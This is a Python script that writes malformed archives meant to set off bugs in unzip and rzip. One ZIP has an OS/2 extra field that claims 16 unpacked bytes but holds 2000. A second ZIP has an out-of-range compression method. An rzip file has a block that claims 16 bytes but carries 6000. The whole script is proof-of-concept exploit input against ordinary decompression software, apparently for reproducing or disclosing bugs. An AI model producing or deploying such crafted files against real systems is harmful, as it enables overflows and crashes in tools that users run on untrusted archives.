"""Writes the archives that set off the bugs of unzip and rzip, into the folder where it runs."""
import struct

OS2 = 0x0009  # the extra field of OS/2, which may be compressed
STORED = 0


def local(name, method, extra):
    sizes = (0, 0, 0, len(name), len(extra))
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, *sizes) + name + extra


def central(name, method, offset):
    head = struct.pack("<IHHHHHH", 0x02014B50, 0x314, 20, 0, method, 0, 0x21)
    sizes = (0, 0, 0, len(name), 0, 0, 0, 0, 0o100644 << 16, offset)
    return head + struct.pack("<IIIHHHHHII", *sizes) + name


def zip_of(*members):
    """An archive of empty files: (name, compression method, extra field)."""
    files = directory = b""
    for name, method, extra in members:
        directory += central(name, method, len(files))
        files += local(name, method, extra)
    sizes = (0, 0, len(members), len(members), len(directory), len(files), 0)
    return files + directory + struct.pack("<IHHHHIIH", 0x06054B50, *sizes)


def extra_field(kind, data):
    return struct.pack("<HH", kind, len(data)) + data


def write(name, data):
    with open(name, "wb") as file:
        file.write(data)


# It says that it unpacks to 16 bytes, but has 2000.
too_long = extra_field(OS2, struct.pack("<IHI", 16, STORED, 0) + b"A" * 2000)
write("extra_field.zip", zip_of((b"a", STORED, too_long), (b"b", STORED, b"")))

# Methods have up to five digits.
write("method.zip", zip_of((b"a", 65535, b"")))


def block(kind, packed, unpacked, following):
    return struct.pack("<BIII", kind, packed, unpacked, following)


# Two streams; the first one's block says that it unpacks to 16 bytes, but has 6000.
NONE = 3
HEAD = 13
commands = bytes([0, 1, 0]) + b"A" * 5997
first, second = 2 * HEAD, 3 * HEAD + len(commands)
streams = block(NONE, 0, 0, first) + block(NONE, 0, 0, second)
blocks = block(NONE, len(commands), 16, 0) + commands + block(NONE, 4, 4, 0) + b"abcd"
write("block.rz", b"RZIP\2\1" + struct.pack(">I", 4) + bytes(14) + streams + blocks)
